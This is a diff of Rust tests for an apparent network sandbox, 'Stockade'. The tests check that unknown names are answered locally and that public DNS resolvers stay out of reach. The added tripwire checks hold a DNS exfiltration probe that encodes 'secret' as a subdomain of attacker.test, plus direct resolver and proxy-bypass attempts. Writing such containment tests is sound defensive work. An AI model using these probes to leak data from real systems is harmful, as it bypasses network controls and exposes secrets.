@@ -32,6 +32,8 @@ fn an_unknown_name_is_answered_locally() {
             assert_eq!(event.action(), Some("denied"), "{mode:?} {run:?}");
         }
         assert_eq!(dns.queries(), [], "no resolver saw a question, not even for the allowed name before its use");
+        let bare = Stockade::new(Mode::Rootless).unwrapped().probe(&["resolve:c2VjcmV0.attacker.test"]);
+        assert!(dns.count("c2vjcmv0.attacker.test") > 0, "tripwire: without Stockade it leaves {bare:?}");
     });
 }
 
@@ -58,15 +60,21 @@ fn public_resolvers_are_out_of_reach() {
         for mode in Mode::available() {
             let tries = [
                 "tcp:198.51.100.8:853",
+                "udp:198.51.100.8:53:query",
+                "udp:203.0.113.8:53:query",
                 "proxy:CONNECT dns.example.com:443 HTTP/1.1\\r\\nHost: dns.example.com:443\\r\\n\\r\\n",
             ];
             let run = Stockade::new(*mode).policy(POLICY).probe(&tries);
             assert!(run.outcome(tries[0]).is_refused(), "{mode:?} {run:?}");
-            assert!(run.outcome(tries[1]).what.starts_with("ok HTTP/1.1 403"), "{mode:?} {run:?}");
-            assert_eq!(run.events.with("bypass").len(), 1, "{mode:?} {run:?}");
+            assert!(tries[1..3].iter().all(|t| !run.outcome(t).what.starts_with("ok")), "{mode:?} {run:?}");
+            assert!(run.outcome(tries[3]).what.starts_with("ok HTTP/1.1 403"), "{mode:?} {run:?}");
+            let direct = run.events.with("bypass").into_iter().filter(|e| e.port() == Some(853)).count();
+            assert_eq!(direct, 1, "{mode:?} {run:?}");
             assert_eq!(run.events.one("no_policy").host(), Some("dns.example.com"), "{mode:?}");
         }
         sinks.iter().for_each(|s| s.counters.assert_untouched());
+        Stockade::new(Mode::Rootless).unwrapped().probe(&["udp:198.51.100.8:53:query", "udp:203.0.113.8:53:query"]);
+        assert!(sinks.iter().all(|s| s.counters.arrivals() > 0), "tripwire: without Stockade they are in reach");
     });
 }
 
